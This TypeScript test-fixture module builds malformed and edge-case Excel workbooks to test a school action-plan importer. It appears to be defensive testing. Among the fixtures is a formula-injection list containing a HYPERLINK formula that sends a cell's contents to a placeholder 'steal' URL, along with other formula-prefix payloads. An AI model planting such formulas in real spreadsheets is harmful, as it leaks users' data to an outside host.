/**
 * The bad-input corpus: workbooks (and things that only claim to be workbooks) that an officer,
 * a copy tool or a careless macro could hand us. Each is built from code into a folder the tests
 * choose, so no binary is committed; `corpus.test.ts` holds what each one must lead to.
 */
import { promises as fs } from 'fs';
import * as path from 'path';
import ExcelJS from 'exceljs';

/** The usual plan header: an action column and three other known columns. */
export const PLAN_HEADER = ['Ref', 'Action', 'Lead', 'Due date', 'RAG'];

/** Names of the corpus files, by case. */
export const CORPUS = {
  zeroBytes: 'zero-bytes.xlsx',
  textFile: 'text-file.xlsx',
  truncatedZip: 'truncated.xlsx',
  passwordProtected: 'password-protected.xlsx',
  noData: 'no-data.xlsx',
  headersOnly: 'headers-only.xlsx',
  headersInRow40: 'headers-in-row-40.xlsx',
  everyCellMerged: 'every-cell-merged.xlsx',
  fiftyThousandActions: 'fifty-thousand-actions.xlsx',
  longestCell: 'longest-cell.xlsx',
  errorValues: 'error-values.xlsx',
  formulaDates: 'formula-dates.xlsx',
  usDateText: 'us-date-text.xlsx',
  serialOutOfRange: 'serial-out-of-range.xlsx',
  duplicateRefs: 'duplicate-refs.xlsx',
  hiddenPlanSheet: 'hidden-plan-sheet.xlsx',
  welshAndEmoji: 'welsh-and-emoji.xlsx',
  rightToLeft: 'right-to-left.xlsx',
  quotedSheetName: 'quoted-sheet-name.xlsx',
  formulaInjection: 'formula-injection.xlsx',
  officerSummarySheet: 'officer-summary-sheet.xlsx',
  officerSnapshotSheet: 'officer-snapshot-sheet.xlsx',
  plain: 'plain.xlsx',
} as const;

export type CorpusCase = keyof typeof CORPUS;

/** Text that Excel would take as a formula if it were ever written as one. */
export const INJECTED_ACTIONS = [
  '=HYPERLINK("http://example.invalid/steal?d="&A1,"Click for details")',
  '+1+1 review staffing',
  '-2 posts to recruit',
  '@SUM(A1:A2) costs to check',
];

export const LONGEST_TEXT_LENGTH = 32_767;
export const MANY_ACTIONS = 50_000;

type Row = ExcelJS.CellValue[];

function plainPlan(rows: Row[], sheetName = 'Action Plan'): ExcelJS.Workbook {
  const workbook = new ExcelJS.Workbook();
  const sheet = workbook.addWorksheet(sheetName);
  sheet.addRow(PLAN_HEADER);
  for (const row of rows) sheet.addRow(row);
  return workbook;
}

const goodRows: Row[] = [
  ['1.1', 'Appoint a attendance officer', 'Head of Service', 'Oct 15', 'Green'],
  ['1.2', 'Train governors in data', 'Governor Support', 'Mar 16', 'Amber'],
];

async function save(workbook: ExcelJS.Workbook, file: string): Promise<void> {
  await fs.writeFile(file, Buffer.from(await workbook.xlsx.writeBuffer()));
}

const builders: Record<CorpusCase, (file: string) => Promise<void>> = {
  zeroBytes: (file) => fs.writeFile(file, Buffer.alloc(0)),
  textFile: (file) => fs.writeFile(file, 'Ref,Action,Lead\n1.1,Appoint officer,Head of Service\n'),
  truncatedZip: async (file) => {
    const whole = Buffer.from(await plainPlan(goodRows).xlsx.writeBuffer());
    await fs.writeFile(file, whole.subarray(0, Math.floor(whole.length / 2)));
  },
  // An encrypted .xlsx is an OLE compound file; its header is enough to stand for one.
  passwordProtected: (file) =>
    fs.writeFile(file, Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(1024, 7)])),
  noData: async (file) => {
    const workbook = new ExcelJS.Workbook();
    workbook.addWorksheet('Sheet1');
    workbook.addWorksheet('Sheet2');
    await save(workbook, file);
  },
  headersOnly: (file) => save(plainPlan([]), file),
  headersInRow40: async (file) => {
    const workbook = new ExcelJS.Workbook();
    const sheet = workbook.addWorksheet('Action Plan');
    sheet.getCell('A1').value = 'School Improvement Plan';
    sheet.getRow(40).values = PLAN_HEADER;
    sheet.getRow(41).values = goodRows[0];
    await save(workbook, file);
  },
  everyCellMerged: async (file) => {
    const workbook = new ExcelJS.Workbook();
    const sheet = workbook.addWorksheet('Action Plan');
    sheet.getCell('A1').value = 'Action Lead Due date RAG';
    sheet.mergeCells('A1:H30');
    await save(workbook, file);
  },
  fiftyThousandActions: (file) =>
    save(
      plainPlan(
        Array.from({ length: MANY_ACTIONS }, (_, i) => [
          `${i + 1}`,
          `Action number ${i + 1}`,
          'Head of Service',
          'Jul 16',
          'Green',
        ]),
      ),
      file,
    ),
  longestCell: (file) =>
    save(plainPlan([['1.1', 'A'.repeat(LONGEST_TEXT_LENGTH), 'Head of Service', 'Oct 15', 'Green']]), file),
  errorValues: (file) =>
    save(
      plainPlan([
        [
          { error: '#REF!' },
          { error: '#N/A' },
          { error: '#VALUE!' },
          { error: '#DIV/0!' },
          { error: '#NAME?' },
        ] as ExcelJS.CellValue[],
        [
          { error: '#REF!' },
          'Appoint officer',
          { error: '#N/A' },
          { error: '#VALUE!' },
          { error: '#NAME?' },
        ] as ExcelJS.CellValue[],
      ]),
      file,
    ),
  formulaDates: async (file) => {
    const workbook = plainPlan([
      ['1.1', 'Appoint officer', 'Head of Service', null, 'Green'],
      ['1.2', 'Train governors', 'Governor Support', null, 'Green'],
    ]);
    const sheet = workbook.getWorksheet('Action Plan')!;
    // 42308 is 31 Oct 2015; the second formula's cached result is an error.
    sheet.getCell('D2').value = { formula: 'DATE(2015,10,31)', result: 42308 };
    sheet.getCell('D2').numFmt = 'dd/mm/yyyy';
    sheet.getCell('D3').value = { formula: 'Z99/0', result: { error: '#DIV/0!' } };
    sheet.getCell('D3').numFmt = 'dd/mm/yyyy';
    await save(workbook, file);
  },
  usDateText: (file) =>
    save(plainPlan([['1.1', 'Appoint officer', 'Head of Service', '07/04/2014', 'Green']]), file),
  serialOutOfRange: async (file) => {
    const workbook = plainPlan([
      ['1.1', 'Appoint officer', 'Head of Service', -5, 'Green'],
      ['1.2', 'Train governors', 'Governor Support', 3_000_000, 'Green'],
    ]);
    const sheet = workbook.getWorksheet('Action Plan')!;
    sheet.getCell('D2').numFmt = 'dd/mm/yyyy';
    sheet.getCell('D3').numFmt = 'dd/mm/yyyy';
    await save(workbook, file);
  },
  duplicateRefs: (file) =>
    save(
      plainPlan([
        ['1.1', 'Appoint officer', 'Head of Service', 'Oct 15', 'Green'],
        ['1.1', 'Train governors', 'Governor Support', 'Mar 16', 'Green'],
      ]),
      file,
    ),
  hiddenPlanSheet: async (file) => {
    const workbook = plainPlan(goodRows);
    workbook.getWorksheet('Action Plan')!.state = 'hidden';
    workbook.addWorksheet('Cover').getCell('A1').value = 'Cover page';
    await save(workbook, file);
  },
  welshAndEmoji: (file) =>
    save(
      plainPlan([
        ['1.1', 'Gwella presenoldeb ym mhob ysgol 🏫✅', 'Pennaeth y Gwasanaeth', 'Hyd 15', 'Gwyrdd'],
        ['1.2', 'Hyfforddi llywodraethwyr – ŵ ŷ â ê 👩‍🏫', 'Cymorth i Lywodraethwyr', 'Mar 16', 'Green'],
      ]),
      file,
    ),
  rightToLeft: (file) =>
    save(plainPlan([['1.1', 'تحسين الحضور في جميع المدارس', 'مدير الخدمة', 'Oct 15', 'Green']]), file),
  quotedSheetName: (file) =>
    save(
      plainPlan([['', 'Appoint officer', 'Head of Service', 'Oct 15', 'Green']], "O'Brien's plan 2015"),
      file,
    ),
  formulaInjection: (file) =>
    save(
      plainPlan(INJECTED_ACTIONS.map((text, i) => [`1.${i + 1}`, text, 'Head of Service', 'Oct 15', 'Red'])),
      file,
    ),
  officerSummarySheet: async (file) => {
    const workbook = plainPlan(goodRows);
    const own = workbook.addWorksheet('Board Summary 2015-11-11');
    own.getCell('A1').value = 'My own notes for the board: do not delete';
    await save(workbook, file);
  },
  officerSnapshotSheet: async (file) => {
    const workbook = plainPlan(goodRows);
    const own = workbook.addWorksheet('APT_Snapshots');
    own.getCell('A1').value = 'Attendance targets';
    own.getCell('A2').value = 95;
    await save(workbook, file);
  },
  plain: (file) => save(plainPlan(goodRows), file),
};

/** Builds every case into `dir` and returns each one's path. */
export async function buildCorpus(dir: string): Promise<Record<CorpusCase, string>> {
  await fs.mkdir(dir, { recursive: true });
  const paths = {} as Record<CorpusCase, string>;
  for (const name of Object.keys(builders) as CorpusCase[]) {
    const file = path.join(dir, CORPUS[name]);
    await builders[name](file);
    paths[name] = file;
  }
  return paths;
}
